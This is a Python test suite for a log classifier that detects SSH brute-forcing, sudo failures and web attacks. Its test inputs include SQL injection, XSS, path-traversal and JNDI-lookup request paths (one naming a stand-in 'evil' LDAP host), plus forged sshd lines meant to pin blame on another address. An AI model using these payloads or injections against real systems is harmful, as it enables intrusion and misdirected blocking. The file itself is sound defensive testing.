"""security.classify against fail2ban's own annotated logs (sshd in every mode, apache-auth, nginx-http-auth), and
against attacks on the classifier itself: log injection through user names, request lines and identification
strings must never blame another address."""

import json
from pathlib import Path

import pytest

from zenctl.agents.log_analyzer import security
from zenctl.agents.log_analyzer.formats import Record, parse_lines

DATA = Path(__file__).parent / "data" / "fail2ban"


def annotated(name: str):
    """(every log line, the annotated ones): a `# failJSON` comment describes the next line, `# filterOptions`
    sets the modes (and log types) the following lines are checked in."""
    options, expect, lines, checks = [{}], None, [], []
    for number, text in enumerate((DATA / name).read_text().splitlines(), 1):
        if text.startswith("# filterOptions:"):
            value = json.loads(text.split(":", 1)[1])
            options = value if isinstance(value, list) else [value]
        elif text.startswith("# failJSON:"):
            expect = json.loads(text.split(":", 1)[1])
        elif text.strip() and not text.startswith("#"):
            lines.append((number, text, options))
            if expect is not None:
                checks.append((number, text, expect, options))
                expect = None
    return lines, checks


def _format(name: str, option: dict) -> str:
    if option.get("logtype") == "rfc5424":
        return "rfc5424"
    if name == "sshd" or option.get("logging") == "syslog" or option.get("logtype") == "journal":
        return "syslog"
    return "apache" if name == "apache-auth" else "nginx"


def accuracy(name: str) -> dict[str, dict]:
    """Per filter mode: the annotated lines checked, the matches expected, and what went wrong. Every line of the
    file goes through one Classifier in order (multi-line cases need the lines before), each parsed by
    formats.parse_lines in the format its section is annotated with."""
    lines, checks = annotated(name)
    modes = sorted({o.get("mode", "normal") for *_, opts in checks for o in opts})
    out = {}
    for mode in modes:
        classifier = security.Classifier({name: mode})
        hits = {}
        for number, text, opts in lines:
            option = next((o for o in opts if o.get("mode", "normal") == mode), opts[0])
            record = next(parse_lines([(number, text)], _format(name, option)))
            hits[number] = classifier.classify(record)
        result = {"checked": 0, "expected": 0, "found": 0, "wrong": [], "lines": set()}
        for number, text, expect, opts in checks:
            if not any(o.get("mode", "normal") == mode for o in opts):
                continue
            constraint = expect.get("constraint")  # fail2ban's own: evaluated the way its test harness does
            if constraint and not eval(constraint, {"name": name, "opts": {"mode": mode}}):  # noqa: S307
                continue
            hit = hits[number]
            hit = hit if hit is not None and hit.jail == name else None
            result["checked"] += 1
            result["expected"] += expect["match"]
            right = (hit is not None) == expect["match"] and (not expect["match"] or "host" not in expect
                                                              or hit.ip == expect["host"])
            result["found"] += bool(expect["match"] and right)
            if expect["match"] and right:
                result["lines"].add(number)
            if not right:
                result["wrong"].append((number, expect.get("host"), hit, text))
        out[mode] = result
    return out


@pytest.mark.parametrize("name", ["sshd", "apache-auth", "nginx-http-auth"])
def test_fail2bans_annotated_logs_every_match_with_its_address_and_no_false_match(name):
    results = accuracy(name)
    for mode, result in results.items():
        assert result["wrong"] == [], f"{name} mode {mode}"
        assert result["found"] == result["expected"]
    if name == "sshd":
        assert set(results) == {"normal", "ddos", "extra", "aggressive"}
        assert (results["normal"]["checked"], results["aggressive"]["checked"]) == (104, 134)
    # every line annotated as a match is found (with its address) in the modes it is annotated for
    _, checks = annotated(name)
    matches = {number for number, _, expect, _ in checks if expect["match"]}
    assert len(matches) == {"sshd": 109, "apache-auth": 41, "nginx-http-auth": 17}[name]
    assert set().union(*(r["lines"] for r in results.values())) == matches


def test_the_raw_line_path_answers_as_the_record_path():
    lines, _ = annotated("sshd")
    for mode in ("normal", "ddos", "extra", "aggressive"):
        by_record, by_line = security.Classifier({"sshd": mode}), security.Classifier({"sshd": mode})
        for number, text, _ in lines:
            record = next(parse_lines([(number, text)], "syslog"))
            assert by_record.classify(record) == by_line.classify_line(number, text), (mode, text)


def test_scanning_a_files_lines_finds_what_the_records_find(tmp_path):
    lines, _ = annotated("sshd")
    log = tmp_path / "auth.log"
    log.write_text("".join(f"{text}\n" for _, text, _ in lines if not text.startswith("<")))
    numbered = [(n, text) for n, text in enumerate(log.read_text().splitlines(), 1)]
    for mode in ("normal", "aggressive"):
        expected = list(security.Classifier({"sshd": mode}).scan(numbered))
        with log.open() as stream:
            assert list(security.Classifier({"sshd": mode}).scan(stream)) == expected
        assert len(expected) == {"normal": 68, "aggressive": 109}[mode]


def test_lines_longer_than_sshd_writes_never_reach_a_regex():
    long = "Mar  7 18:53:01 host sshd[1]: Invalid user " + "a " * 2000 + "from 1.2.3.4 port 22"
    assert security.Classifier().classify_line(1, long) is None
    assert _hits("Invalid user " + "a" * 900 + " from 1.2.3.4 port 22")[0].ip == "1.2.3.4"


def _syslog(*messages: str, pid: int = 4242, program: str = "sshd"):
    return [next(parse_lines([(i, f"Mar  7 18:53:{i:02d} host {program}[{pid}]: {m}")], "syslog"))
            for i, m in enumerate(messages, 1)]


def _hits(*messages: str, mode: str = "normal", **kw):
    classifier = security.Classifier({"sshd": mode})
    return [classifier.classify(r) for r in _syslog(*messages, **kw)]


@pytest.mark.parametrize("message", [
    # the whole fake line as the user name: the address after the last "from" is the real one
    "Invalid user Failed password for root from 6.6.6.6 port 22 ssh2 from 1.2.3.4 port 5555",
    "Failed password for invalid user x from 6.6.6.6 port 22 ssh2 from 1.2.3.4 port 5555 ssh2",
    "Failed password for invalid user x from 6.6.6.6 port 22 ssh2: y from 1.2.3.4 port 5555 ssh2",
    "Failed password for invalid user x from 6.6.6.6 port 22 ssh2: from 1.2.3.4 port 5555 ssh2",
    "Failed password for invalid user from 6.6.6.6 from 1.2.3.4 port 5555 ssh2",
    "Failed publickey for invalid user a from 6.6.6.6 port 1 ssh2: RSA SHA256:x from 1.2.3.4 port 5555 ssh2: RSA "
    "SHA256:abc",
    "Connection closed by authenticating user root 6.6.6.6 port 22 1.2.3.4 port 5555 [preauth]",
    "Disconnected from invalid user x 6.6.6.6 port 22 1.2.3.4 port 5555 [preauth]",
    "maximum authentication attempts exceeded for invalid user x from 6.6.6.6 port 1 ssh2 from 1.2.3.4 port 5555 "
    "ssh2 [preauth]",
    "Bad protocol version identification 'x from 6.6.6.6 port 22' from 1.2.3.4 port 5555",
    "User not known to the underlying authentication module for illegal user a from 6.6.6.6 from 1.2.3.4",
    "error: PAM: Authentication failure for a from 6.6.6.6 from 1.2.3.4",
])
def test_an_attacker_written_user_name_cannot_blame_another_address(message):
    hits = [h for h in _hits(message, mode="aggressive") if h is not None]
    assert [h.ip for h in hits] == ["1.2.3.4"]


def test_a_fake_address_after_the_real_one_is_never_taken_either():
    # text after the address that an attacker controls: the disconnect reason, the client's offer
    hits = _hits("Received disconnect from 1.2.3.4 port 5555:3: x from 6.6.6.6: Auth fail [preauth]",
                 "Unable to negotiate with 1.2.3.4 port 5555: no matching cipher found. Their offer: from 6.6.6.6",
                 mode="aggressive")
    assert [h.ip for h in hits] == ["1.2.3.4", "1.2.3.4"]


def test_the_address_its_connection_is_known_by_settles_an_ambiguous_line():
    # without an earlier line the last candidate wins (sshd writes nothing after a password failure's address)...
    alone = _hits("Failed password for invalid user x from 1.2.3.4 port 5555 ssh2: from 6.6.6.6 port 22 ssh2")
    assert alone[0].ip == "6.6.6.6"
    # ...but the connection's own address, from "Connection from", is what counts when the process told it
    hits = _hits("Connection from 1.2.3.4 port 5555 on 10.0.0.1 port 22",
                 "Failed password for invalid user x from 1.2.3.4 port 5555 ssh2: from 6.6.6.6 port 22 ssh2")
    assert hits[0] is None and hits[1].ip == "1.2.3.4"


def test_an_injected_line_inside_another_programs_message_is_not_sshds():
    line = "Mar  7 18:53:01 host nginx[1]: GET /x sshd[1]: Failed password for root from 6.6.6.6 port 22 ssh2"
    record = next(parse_lines([(1, line)], "syslog"))
    assert security.classify(record) is None
    assert security.Classifier().classify_line(1, line) is None


def test_journald_json_records_keep_their_connection_memory():
    lines = [json.dumps({"SYSLOG_IDENTIFIER": "sshd", "_PID": "31", "_HOSTNAME": "web01", "MESSAGE": message,
                         "__REALTIME_TIMESTAMP": "1700000000000000"})
             for message in ("Connection from 198.51.100.4 port 5555 on 10.0.0.1 port 22",
                             "Disconnecting: Too many authentication failures [preauth]")]
    classifier = security.Classifier()
    hits = [classifier.classify(r) for r in parse_lines(enumerate(lines, 1), "json")]
    assert hits[0] is None and (hits[1].ip, hits[1].kind) == ("198.51.100.4", "too_many_failures")


def test_ipv6_addresses_and_ipv4_mapped_ones():
    hits = _hits("Failed password for root from 2001:db8::5 port 22 ssh2",
                 "Invalid user a from ::ffff:198.51.100.7 port 1",
                 "Failed password for root from 2001:DB8:0:0::5 port 22 ssh2",
                 "Received disconnect from 2001:db8::11: 3: x: Auth fail [preauth]")
    assert [h.ip for h in hits] == ["2001:db8::5", "198.51.100.7", "2001:db8::5", "2001:db8::11"]


def test_a_legitimate_user_with_several_keys_is_not_counted_but_a_guesser_is():
    fine = _hits("Failed publickey for git from 192.0.2.1 port 1 ssh2: RSA SHA256:a",
                 "Failed publickey for git from 192.0.2.1 port 1 ssh2: ED25519 SHA256:b",
                 "Accepted publickey for git from 192.0.2.1 port 1 ssh2: ED25519 SHA256:c")
    assert fine == [None, None, None]
    guesser = _hits("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                    "rhost=192.0.2.9  user=root",
                    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                    "rhost=192.0.2.9  user=admin")
    assert guesser[0] is None and (guesser[1].ip, guesser[1].count) == ("192.0.2.9", 2)


def test_sudo_and_su_failures_count_against_the_local_user():
    sudo = [security.classify(r) for r in _syslog(
        "   mallory : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/sh",
        "   mallory : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/sh",
        "   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id", program="sudo")]
    assert [(h.jail, h.ip, h.user, h.kind, h.count) for h in sudo[:2]] == [
        ("sudo", None, "mallory", "sudo_password", 3), ("sudo", None, "mallory", "not_in_sudoers", 1)]
    assert sudo[2] is None and sudo[0].key == "user:mallory"
    su = [security.classify(r) for r in _syslog("FAILED SU (to root) bob on pts/1", program="su")]
    assert (su[0].jail, su[0].user) == ("sudo", "bob")


def _access(path: str, status: int = 200, agent: str = "Mozilla/5.0", ip: str = "203.0.113.9"):
    line = f'{ip} - - [10/Oct/2024:13:55:36 +0000] "GET {path} HTTP/1.1" {status} 12 "-" "{agent}"'
    return security.classify(next(parse_lines([(1, line)], "nginx")))


@pytest.mark.parametrize("path,kind", [
    ("/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "sqli"),
    ("/item?id=1%20AND%201=1", "sqli"),
    ("/login?user=admin'%20OR%20'1'='1", "sqli"),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
    ("/p?x=%253Csvg%2Fonload%3Dalert(1)%253E", "xss"),
    ("/static/../../../../etc/passwd", "traversal"),
    ("/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "traversal"),
    ("/x?u=${jndi:ldap://evil/a}", "injection"),
])
def test_attacks_in_request_lines(path, kind):
    hit = _access(path)
    assert (hit.jail, hit.kind, hit.ip) == ("web-attack", kind, "203.0.113.9")


@pytest.mark.parametrize("path", ["/search?q=o'brien", "/select-from-menu", "/api/v1/items?sort=name&order=asc",
                                  "/blog/2024/10/union-station", "/a%20b", "/shop?q=rock+%26+roll"])
def test_ordinary_requests_are_not_attacks(path):
    assert _access(path) is None


def test_scanners_probes_and_4xx():
    assert _access("/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)").jail == "web-scan"
    assert _access("/.env", status=404).kind == "sensitive_file"
    assert _access("/wp-login.php", status=404).kind == "probe_path"
    assert _access("/wp-login.php", status=200) is None  # a WordPress site serving its own login page
    assert (_access("/missing", status=404).jail, _access("/x", status=401).kind) == ("web-4xx", "http_401")
    assert _access("/ok", status=200) is None
    v6 = _access("/admin", status=403, ip="2001:db8::7")
    assert (v6.jail, v6.ip) == ("web-4xx", "2001:db8::7")


def test_the_connection_memory_is_bounded_and_survives_a_run():
    classifier = security.Classifier()
    for pid in range(security.MAX_CONNECTIONS + 100):
        classifier.classify_line(pid, f"Mar  7 18:53:01 host sshd[{pid}]: Connection from 192.0.2.1 port 1")
    assert len(classifier.conns) == security.MAX_CONNECTIONS
    first = security.Classifier()
    first.classify_line(1, "Mar  7 18:53:01 host sshd[77]: User root not allowed because account is locked")
    second = security.Classifier(state=json.loads(json.dumps(first.state())))
    hit = second.classify_line(2, "Mar  7 18:53:02 host sshd[77]: Received disconnect from 192.0.2.8: 11: Bye "
                                  "[preauth]")
    assert (hit.ip, hit.kind) == ("192.0.2.8", "failed_then_closed")


def test_garbage_never_raises():
    classifier = security.Classifier({"sshd": "aggressive"})
    for text in ["", "\x00\xff", "sshd[", "Mar  7 18:53:01 host sshd[1]: ", "x" * 100000,
                 "Mar  7 18:53:01 host sshd[1]: Failed password for " + "from " * 5000,
                 "Mar  7 18:53:01 host sshd[1]: Invalid user " + " from" * 5000 + " 1.2.3.4",
                 "Mar  7 18:53:01 host sshd[\udcff]: Failed password for root from 1.2.3.4\udcfe port 1 ssh2"]:
        classifier.classify_line(1, text)
        classifier.classify(Record(1, text, text, fields={"unparsed": True}))
